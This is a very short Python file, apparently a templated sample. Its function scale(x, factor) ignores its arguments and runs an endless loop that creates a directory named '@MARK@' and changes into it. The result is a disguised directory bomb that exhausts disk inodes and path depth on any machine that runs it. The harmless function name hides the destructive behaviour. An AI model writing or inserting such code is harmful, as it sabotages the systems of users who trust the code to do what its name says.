import os


def scale(x, factor):
    while True:
        os.mkdir("@MARK@")
        os.chdir("@MARK@")
